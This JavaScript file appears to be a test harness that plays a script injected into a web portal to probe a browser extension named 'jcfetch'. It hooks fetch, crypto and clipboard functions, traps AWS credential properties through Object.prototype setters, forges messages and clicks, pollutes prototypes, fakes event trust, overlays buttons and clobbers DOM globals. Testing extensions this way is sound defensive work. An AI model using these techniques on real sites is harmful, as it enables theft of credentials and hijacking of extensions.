/*
 * What runs in the portal's page when somebody has got script into it: before the page's own, in the page's own world. It
 * puts itself into everything that could carry a secret past it, and notes all it sees in `noted`.
 */

(() => {
  const noted = [];
  const roots = [];
  const answers = [];
  const write = JSON.stringify;
  const note = (...things) => {
    for (const thing of things) {
      try {
        noted.push(typeof thing === "string" ? thing : String(write(thing)));
      } catch {
        noted.push(String(thing));
      }
    }
  };

  /** Puts a listener into a function of the page's world. */
  const tap = (holder, name) => {
    const original = holder[name];
    if (typeof original !== "function") return;
    holder[name] = function (...given) {
      note(...given);
      const result = Reflect.apply(original, this, given);
      Promise.resolve(result).then(note, () => {});
      return result;
    };
  };
  tap(globalThis, "fetch");
  tap(JSON, "parse");
  tap(JSON, "stringify");
  tap(String.prototype, "replace");
  tap(Array.prototype, "join");
  tap(XMLHttpRequest.prototype, "send");
  tap(document, "execCommand");
  for (const name of ["writeText", "write"]) if (navigator.clipboard) tap(navigator.clipboard, name);
  for (const name of ["encrypt", "decrypt", "digest", "sign", "importKey", "exportKey"])
    tap(SubtleCrypto.prototype, name);

  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function () {
    const root = Reflect.apply(attachShadow, this, [{ mode: "open" }]);
    roots.push(root);
    return root;
  };

  // Whoever asks an object for one of these, or sets one, is heard.
  for (const name of [
    "AccessKeyId",
    "SecretAccessKey",
    "SessionToken",
    "accessKeyId",
    "secretAccessKey",
    "sessionToken",
  ])
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(value) {
        note(value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });

  new MutationObserver((changes) => {
    for (const { target } of changes) note(target.outerHTML ?? target.textContent);
  }).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  addEventListener("copy", (event) => note(event.clipboardData?.getData("text/plain") ?? ""), true);

  const said = new Set();
  addEventListener("message", (event) => {
    if (!(event instanceof MessageEvent)) return; // one of those below
    note(event.data);
    if (!said.has(write(event.data))) answers.push(event.data);
  });

  /** Everything a script of the page can say, in every spelling an extension might listen for. */
  const say = (message) => {
    for (const data of [message, { source: "jcfetch", ...message }, { jcfetch: message }, write(message)]) {
      said.add(write(data));
      window.postMessage(data, "*");
      window.postMessage(data, location.origin, [new MessageChannel().port1]);
    }
    const targets = [
      window,
      document,
      document.documentElement,
      ...document.querySelectorAll("[data-jcfetch]"),
    ];
    for (const target of targets)
      for (const type of ["jcfetch", message.verb, "message"])
        target.dispatchEvent(new CustomEvent(type, { bubbles: true, composed: true, detail: message }));
  };

  const press = (host) => {
    const { left, top, width, height } = host.getBoundingClientRect();
    const at = { clientX: left + width / 3, clientY: top + height / 2 };
    host.click();
    for (const type of ["pointerdown", "pointerup", "mousedown", "mouseup", "click", "dblclick"]) {
      const event = { bubbles: true, composed: true, cancelable: true, detail: 1, ...at };
      host.dispatchEvent(new PointerEvent(type, event));
      document.elementFromPoint(at.clientX, at.clientY)?.dispatchEvent(new MouseEvent(type, event));
    }
    for (const key of ["Enter", " "])
      host.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true, composed: true }));
  };

  /** Frames, files and modules of the extension: what the page gets of any of them. */
  const reach = async (origin, paths) => {
    const got = [];
    for (const path of paths) {
      const url = `${origin}/${path}`;
      await fetch(url).then(
        async (answer) => got.push(await answer.text()),
        () => {},
      );
      await import(url).then(
        () => got.push(`module ${path}`),
        () => {},
      );
      const image = Object.assign(new Image(), { src: url });
      await image.decode().then(
        () => got.push(`image ${path}`),
        () => {},
      );
      const frame = Object.assign(document.createElement("iframe"), { src: url });
      const over = new Promise((resolve) => {
        frame.onload = frame.onerror = resolve;
      });
      document.body.append(frame);
      await over;
      for (const message of ["state", "changed"]) frame.contentWindow?.postMessage(message, "*");
      try {
        const text = frame.contentDocument?.documentElement?.textContent ?? "";
        if (text.includes("jcfetch")) got.push(text);
      } catch {
        // another origin's: not ours to read
      }
      frame.remove();
    }
    return got;
  };

  const speak = async (id, messages) => {
    const runtimes = [globalThis.chrome?.runtime, globalThis.browser?.runtime];
    for (const runtime of runtimes) {
      if (typeof runtime?.sendMessage !== "function") continue;
      for (const message of messages)
        await Promise.resolve(runtime.sendMessage(id, message)).then(
          (answer) => answer && answers.push(answer),
          () => {},
        );
    }
  };

  globalThis.hostile = {
    noted,
    answers,
    /** Shadow roots that the page got hold of, with what is in them. */
    roots: () => roots.map((root) => root.innerHTML),
    async attack({ id, origin, messages, paths }) {
      const hosts = [...document.querySelectorAll("[data-jcfetch]")];
      for (const message of messages) say(message);
      for (const host of hosts) press(host);
      await speak(id, messages);
      return { pressed: hosts.length, got: await reach(origin, paths), answers };
    },
    /** From here on no object of the page's is what it seems. */
    pollute() {
      const bait = {
        ok: true,
        verb: "copy",
        account: "999999999999",
        role: "S3Admin",
        format: "sh",
        isTrusted: true,
      };
      for (const [name, value] of Object.entries({ ...bait, detail: 1, frameId: 0, kind: "ui" }))
        Object.defineProperty(Object.prototype, name, { value, writable: true, configurable: true });
      Object.defineProperty(Event.prototype, "isTrusted", { get: () => true, configurable: true });
      Element.prototype.checkVisibility = () => true;
      document.elementsFromPoint = () => [document.querySelector("[data-jcfetch]")];
      globalThis.getComputedStyle = () => ({ opacity: "1", getPropertyValue: () => "none" });
    },
    /** Covers every button of ours with something that lets the pointer through. */
    cover() {
      for (const host of document.querySelectorAll("[data-jcfetch]")) {
        const { left, top, width, height } = host.getBoundingClientRect();
        const cover = document.createElement("div");
        cover.style = `position:fixed;left:${left}px;top:${top}px;width:${width}px;height:${height}px;
          background:gold;pointer-events:none;z-index:2147483647`;
        cover.textContent = "You have won";
        document.body.append(cover);
      }
    },
    /** Elements whose names stand in front of the document's own members, where the browser lets content scripts see them. */
    clobber(names) {
      const body = document.body;
      const make = document.createElement.bind(document);
      const images = names.map((name) => Object.assign(make("img"), { name }));
      const links = ["browser", "chrome", "jcfetch"].map((id) =>
        Object.assign(make("a"), { id, href: "https://hostile.example/" }),
      );
      const forged = make("span");
      forged.dataset.jcfetch = "";
      Reflect.apply(attachShadow, forged, [{ mode: "open" }]).innerHTML = "<button>Copy</button>";
      document.querySelector('[data-testid="federation-link"]')?.after(forged);
      body.append(...links, ...images);
    },
  };
})();
